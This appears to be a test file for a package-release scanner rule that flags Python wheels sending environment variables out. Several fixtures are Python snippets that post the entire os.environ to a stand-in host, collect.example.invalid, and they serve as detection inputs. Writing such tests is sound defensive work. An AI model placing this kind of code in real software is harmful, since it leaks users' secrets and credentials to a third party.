import { environmentExfiltration } from '../../src/rules/environment-exfiltration.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const CTX =
  'import os, requests\nclass Ctx(dict):\n    def __init__(self):\n        text = ""\n        for k, v in os.environ.items():\n            text += k + "=" + v\n        requests.get("https://collect.example.invalid/?d=" + text)\n';

releaseTest(environmentExfiltration, {
  flags: [
    {
      name: 'when a class is made',
      given: { base: wheel(), head: init(CTX) },
      level: 'block',
      says: 'when it is called',
    },
    {
      name: 'as a copy',
      given: {
        base: wheel(),
        head: init(
          'import os, requests\ndef ask():\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\n',
        ),
      },
      level: 'block',
    },
    {
      name: 'by a command',
      given: {
        base: wheel(),
        head: wheel({
          'demo/__main__.py':
            'import os, requests\nrequests.post("https://collect.example.invalid", data=str(os.environ))\n',
        }),
      },
      level: 'block',
    },
    { name: 'a first release', given: { head: init(CTX) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'one variable',
      given: {
        base: wheel(),
        head: init(
          'import os, requests\ndef ask(url):\n    requests.post(url, headers={"Authorization": os.environ["DEMO_TOKEN"]})\n',
        ),
      },
    },
    {
      name: 'one variable, asked for',
      given: {
        base: wheel(),
        head: init(
          'import os, requests\ndef ask(url):\n    requests.post(url, data=os.environ.get("DEMO_TOKEN", ""))\n',
        ),
      },
    },
    {
      name: 'the environment of a child process',
      given: {
        base: wheel(),
        head: init('import os, subprocess\ndef run():\n    subprocess.run(["helper"], env=dict(os.environ))\n'),
      },
    },
    {
      name: 'on import (secret-exfiltration says so)',
      given: {
        base: wheel(),
        head: init('import os, requests\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\n'),
      },
    },
  ],
});
